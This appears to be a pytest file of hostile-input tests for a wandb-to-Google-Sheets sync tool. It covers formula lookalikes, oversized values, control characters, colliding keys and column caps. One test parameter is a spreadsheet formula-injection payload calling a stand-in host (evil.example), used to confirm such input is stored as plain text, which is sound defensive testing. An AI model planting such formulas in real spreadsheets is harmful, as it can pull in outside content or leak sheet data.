"""Hostile input, one case per test, through the real source and sink against the fakes."""

from __future__ import annotations

import logging
import os
import threading

import pytest

from wandb_sheet_sync.columns import CUT_MARKER
from wandb_sheet_sync.sinks.google_sheets import GoogleSheetsSink
from wandb_sheet_sync.sources.wandb_api import WandbSource
from wandb_sheet_sync.sync import SyncMemory, sync


def run_sync(e2e, **config):
    settings = e2e.settings(**config)
    sink = GoogleSheetsSink(settings.spreadsheet, settings.key_file, settings.google_endpoint, 5, threading.Event(),
                            retry_base=settings.retry_base_seconds)
    return sync(WandbSource(settings), sink, settings, SyncMemory()), sink


def cell(e2e, row: int, header: str):
    sheet = next(s for s in e2e.google.world.spreadsheets[e2e.spreadsheet_id].sheets if s.title == "runs")
    grid = e2e.sheet()
    return sheet.get(row, grid[0].index(header))


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1+2", "@SUM(A1)", '=IMPORTDATA("http://evil.example/x")',
                                  "=HYPERLINK(\"http://x\",\"y\")"])
def test_formula_lookalikes_are_stored_as_text(e2e, text):
    e2e.wandb.world.add_run(name="f1", display_name=text, config={"note": text})
    run_sync(e2e)
    for header in ("run_name", "note"):
        c = cell(e2e, 1, header)
        assert c.formula is None and c.value == text


def test_sixty_thousand_characters_are_cut_with_a_marker(e2e):
    e2e.wandb.world.add_run(name="long", config={"blob": "y" * 60_000})
    run_sync(e2e)
    value = cell(e2e, 1, "blob").value
    assert len(value) == 50_000 and value.endswith(CUT_MARKER)


def test_null_bytes_and_control_characters_are_dropped_rtl_and_emoji_kept(e2e):
    e2e.wandb.world.add_run(name="c1", display_name="a\x00b\x1bc\x07d", config={"he": "שלום עולם", "emoji": "🚀🔥 ok"})
    run_sync(e2e)
    row = e2e.rows()["c1"]
    assert row["run_name"] == "abcd" and row["he"] == "שלום עולם" and row["emoji"] == "🚀🔥 ok"


def test_twenty_thousand_config_keys_are_capped_and_named(e2e):
    e2e.wandb.world.add_run(name="wide", config={f"k{i:05d}": i for i in range(20_000)})
    said: list[str] = []
    handler = logging.Handler(logging.WARNING)
    handler.emit = lambda record: said.append(record.getMessage())
    logger = logging.getLogger("wandb_spreadsheet_sync")
    logger.addHandler(handler)
    try:
        report, _ = run_sync(e2e, MAX_COLUMNS=300)
    finally:
        logger.removeHandler(handler)
    header = e2e.sheet()[0]
    assert len(header) == 300 and report.targets[0].dropped[0] == "k00294"
    assert len(report.targets[0].dropped) == 20_000 - 294
    (warning,) = [line for line in said if line.startswith("MAX_COLUMNS (300) left out 19706 columns")]
    assert all(f"k{i:05d}" in warning for i in range(294, 20_000))  # no value left out without its name


def test_keys_that_differ_only_in_case_or_slash_keep_their_own_values(e2e):
    e2e.wandb.world.add_run(name="k1", summary={"train/loss": 0.1, "train_loss": 0.2, "Train_Loss": 0.3})
    run_sync(e2e)
    row = e2e.rows()["k1"]
    assert (row["train/loss"], row["train_loss"], row["Train_Loss"]) == (0.1, 0.2, 0.3)


def test_big_integers_keep_every_digit_and_booleans_stay_booleans(e2e):
    e2e.wandb.world.add_run(name="n1", config={"seed": 2**63 - 1, "small": 2**53, "flag": False, "on": True})
    run_sync(e2e)
    row = e2e.rows()["n1"]
    assert row["seed"] == str(2**63 - 1) and row["small"] == 2**53
    assert row["flag"] is False and row["on"] is True


def test_empty_string_is_written_but_a_missing_key_is_left_to_people(e2e):
    e2e.wandb.world.add_run(name="e1", config={"x": "", "y": 1})
    e2e.wandb.world.add_run(name="e2", config={"y": 2})
    run_sync(e2e)
    grid = e2e.sheet()
    x = grid[0].index("x")
    sheet = next(s for s in e2e.google.world.spreadsheets[e2e.spreadsheet_id].sheets if s.title == "runs")
    row_e2 = next(r for r, row in enumerate(grid) if row and row[0] == "e2")
    sheet.put(row_e2, x, sheet.get(1, 0).with_(value="typed by a person", extra={}))
    report, _ = run_sync(e2e)
    assert e2e.rows()["e2"]["x"] == "typed by a person" and report.total("kept_edits") == 0


def test_a_summary_full_of_media_objects_adds_no_columns(e2e):
    media = {f"img{i}": {"_type": "image-file", "path": f"media/{i}.png", "sha256": "ab"} for i in range(50)}
    media["table"] = {"_type": "table-file", "path": "t.json"}
    e2e.wandb.world.add_run(name="m1", summary=dict(media, loss=0.5))
    run_sync(e2e)
    header = e2e.sheet()[0]
    assert "loss" in header and not any(h.startswith(("img", "table")) for h in header)


@pytest.mark.slow
def test_a_hundred_thousand_runs_stream_in_pages_with_no_per_run_requests(e2e):
    e2e.wandb.world.generate(100_000, config_keys=4, summary_keys=4)
    # REQUEST_TIMEOUT as the product's default: with e2e's 5 s a page the fake answered slowly on a loaded
    # machine was cut and sent again by wandb-core, and counted (101 Runs operations)
    settings = e2e.settings(PER_PAGE=1000, REQUEST_TIMEOUT=60)
    fetched = WandbSource(settings).fetch(settings.targets[0])
    assert len(fetched.runs) == 100_000 and fetched.pages == 100
    assert e2e.wandb.world.operations().count("Runs") == 100 and "Run" not in e2e.wandb.world.operations()


@pytest.mark.slow
def test_a_world_readable_key_file_gets_a_warning(e2e):
    os.chmod(e2e.key_file, 0o644)
    e2e.wandb.world.add_run(name="w1")
    result = e2e.cli("--once")
    assert result.returncode == 0
    assert "can be read by every user of this machine; chmod 600 it" in result.stdout


def test_keys_that_collide_get_distinct_stable_columns_and_the_second_sync_writes_nothing(e2e):
    import unicodedata

    nfc, nfd = unicodedata.normalize("NFC", "café"), unicodedata.normalize("NFD", "café")
    e2e.wandb.world.add_run(name="c1", config={"lr": 0.1, "lr ": 0.2, "LR": 0.3, "a.b": 1.11, "a": {"b": 2.22},
                                               "": 4.4, nfc: 5.5, nfd: 6.6, "t\tab": 7.7, "state": "mine"})
    first = e2e.cli("--once")
    assert first.returncode == 0, first.stderr
    row = e2e.rows()["c1"]
    assert {h: row[h] for h in ("lr", "lr␠", "LR", "a.b", "a.b [2]", "(empty key)", nfc, f"{nfd} [2]", "t␉ab",
                                "config.state")} == {"lr": 0.1, "lr␠": 0.2, "LR": 0.3, "a.b": 2.22, "a.b [2]": 1.11,
                                                     "(empty key)": 4.4, nfc: 5.5, f"{nfd} [2]": 6.6, "t␉ab": 7.7,
                                                     "config.state": "mine"}
    second = e2e.cli("--once")
    assert second.returncode == 0, second.stderr  # on main: "The header 'lr' appears twice", for good
    assert "0 new, 0 updated, 0 kept edits, 0 columns added" in second.stdout and "0 sheet writes" in second.stdout
